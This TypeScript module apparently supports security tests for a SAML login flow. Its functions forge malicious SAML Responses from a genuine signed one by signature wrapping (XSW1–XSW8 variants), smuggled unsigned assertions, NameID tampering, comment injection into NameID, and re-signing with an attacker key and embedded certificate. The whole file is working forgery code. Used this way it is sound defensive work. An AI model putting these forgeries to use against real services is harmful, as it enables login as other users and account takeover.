import { randomBytes } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

/**
 * Malicious SAML Responses, built for real from a genuine signed one with
 * @xmldom/xmldom and xml-crypto: signature wrapping (XSW), smuggled
 * assertions, comment injection, re-signing with an attacker's key.
 */
const NS_ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const NS_PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const NS_DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export const toBase64 = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc);
}

function first(root: Document | Element, ns: string, name: string): Element {
  const el = root.getElementsByTagNameNS(ns, name)[0];
  if (!el) throw new Error(`no ${name}`);
  return el;
}

function directSignature(el: Element): Element | undefined {
  return Array.from(el.childNodes).find(
    (n): n is Element =>
      n.nodeType === 1 && (n as Element).namespaceURI === NS_DSIG && (n as Element).localName === 'Signature',
  );
}

/** A copy of the signed assertion with another NameID, a fresh ID and no signature: the attacker's. */
function evilAssertion(doc: Document, nameId: string): Element {
  const original = first(doc, NS_ASSERTION, 'Assertion');
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute('ID', `_evil${randomBytes(8).toString('hex')}`);
  const signature = directSignature(evil);
  if (signature) evil.removeChild(signature);
  const name = first(evil, NS_ASSERTION, 'NameID');
  while (name.firstChild) name.removeChild(name.firstChild);
  name.appendChild(doc.createTextNode(nameId));
  return evil;
}

export type Wrapping = (xml: string, victim: string) => string;

/** XSW3: the evil assertion placed before the signed one, as its sibling. */
export const assertionWrappedXsw3: Wrapping = (xml, victim) => {
  const doc = parse(xml);
  const original = first(doc, NS_ASSERTION, 'Assertion');
  original.parentNode?.insertBefore(evilAssertion(doc, victim), original);
  return serialize(doc);
};

/** XSW4: the signed assertion moved inside the evil one. */
export const assertionWrappedXsw4: Wrapping = (xml, victim) => {
  const doc = parse(xml);
  const original = first(doc, NS_ASSERTION, 'Assertion');
  const evil = evilAssertion(doc, victim);
  const response = original.parentNode as Element;
  response.replaceChild(evil, original);
  evil.appendChild(original);
  return serialize(doc);
};

/** XSW7/8-like: the evil assertion in place, the signed original hidden in samlp:Extensions. */
export const assertionWrappedInExtensions: Wrapping = (xml, victim) => {
  const doc = parse(xml);
  const original = first(doc, NS_ASSERTION, 'Assertion');
  const response = original.parentNode as Element;
  const extensions = doc.createElementNS(NS_PROTOCOL, 'samlp:Extensions');
  response.replaceChild(evilAssertion(doc, victim), original);
  extensions.appendChild(original);
  const issuer = first(response, NS_ASSERTION, 'Issuer');
  response.insertBefore(extensions, issuer.nextSibling);
  return serialize(doc);
};

/** XSW5/6-like: the signed original inside the evil assertion's own ds:Signature/ds:Object. */
export const assertionWrappedInSignatureObject: Wrapping = (xml, victim) => {
  const doc = parse(xml);
  const original = first(doc, NS_ASSERTION, 'Assertion');
  const evil = evilAssertion(doc, victim);
  const signature = directSignature(original)?.cloneNode(true) as Element;
  const object = doc.createElementNS(NS_DSIG, 'ds:Object');
  (original.parentNode as Element).replaceChild(evil, original);
  object.appendChild(original);
  signature.appendChild(object);
  evil.insertBefore(signature, first(evil, NS_ASSERTION, 'Subject'));
  return serialize(doc);
};

/** XSW1/2 (Response variant): a new Response around the evil assertion, the signed Response inside its Signature. */
export const responseWrappedXsw1: Wrapping = (xml, victim) => {
  const doc = parse(xml);
  const signedResponse = doc.documentElement as Element;
  const evilResponse = signedResponse.cloneNode(true) as Element;
  evilResponse.setAttribute('ID', `_evil${randomBytes(8).toString('hex')}`);
  const signature = directSignature(evilResponse);
  if (!signature) throw new Error('the Response is not signed');
  const assertion = first(evilResponse, NS_ASSERTION, 'Assertion');
  evilResponse.replaceChild(evilAssertion(doc, victim), assertion);
  const object = doc.createElementNS(NS_DSIG, 'ds:Object');
  object.appendChild(signedResponse.cloneNode(true));
  signature.appendChild(object);
  doc.replaceChild(evilResponse, signedResponse);
  return serialize(doc);
};

/** A second, unsigned assertion appended after the signed one. */
export const secondUnsignedAssertion: Wrapping = (xml, victim) => {
  const doc = parse(xml);
  const original = first(doc, NS_ASSERTION, 'Assertion');
  (original.parentNode as Element).appendChild(evilAssertion(doc, victim));
  return serialize(doc);
};

/** The NameID of the signed assertion changed in place (the digest no longer matches). */
export const nameIdTampered: Wrapping = (xml, victim) => {
  const doc = parse(xml);
  const name = first(doc, NS_ASSERTION, 'NameID');
  while (name.firstChild) name.removeChild(name.firstChild);
  name.appendChild(doc.createTextNode(victim));
  return serialize(doc);
};

/**
 * A comment (or processing instruction) inserted into the signed NameID after
 * signing: exclusive c14n drops comments, so the signature still verifies; a
 * reader that takes the first text node would see only the part before it.
 */
export function nameIdWithInsertedNode(xml: string, splitAt: string, node: 'comment' | 'pi'): string {
  const doc = parse(xml);
  const name = first(doc, NS_ASSERTION, 'NameID');
  const value = name.textContent ?? '';
  const cut = value.indexOf(splitAt) + splitAt.length;
  while (name.firstChild) name.removeChild(name.firstChild);
  name.appendChild(doc.createTextNode(value.slice(0, cut)));
  name.appendChild(node === 'comment' ? doc.createComment('') : doc.createProcessingInstruction('x', ''));
  name.appendChild(doc.createTextNode(value.slice(cut)));
  return serialize(doc);
}

/**
 * The attacker's own assertion (victim's NameID), signed with the attacker's
 * key, the attacker's certificate injected in ds:KeyInfo: it must be checked
 * against the connection's certificates, never the one it carries.
 */
export function resignedWithInjectedCertificate(
  xml: string,
  victim: string,
  attacker: { privateKeyPem: string; certificatePem: string },
): string {
  const doc = parse(xml);
  const original = first(doc, NS_ASSERTION, 'Assertion');
  const evil = evilAssertion(doc, victim);
  (original.parentNode as Element).replaceChild(evil, original);
  const unsigned = serialize(doc);
  const sig = new SignedXml({
    privateKey: attacker.privateKeyPem,
    publicCert: attacker.certificatePem,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  sig.addReference({
    xpath: "/*[local-name(.)='Response']/*[local-name(.)='Assertion']",
    transforms: [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  sig.computeSignature(unsigned, {
    prefix: 'ds',
    location: {
      reference: "/*[local-name(.)='Response']/*[local-name(.)='Assertion']/*[local-name(.)='Issuer']",
      action: 'after',
    },
  });
  const signed = sig.getSignedXml();
  if (!signed.includes('X509Certificate')) throw new Error('the attacker certificate was not embedded');
  return signed;
}
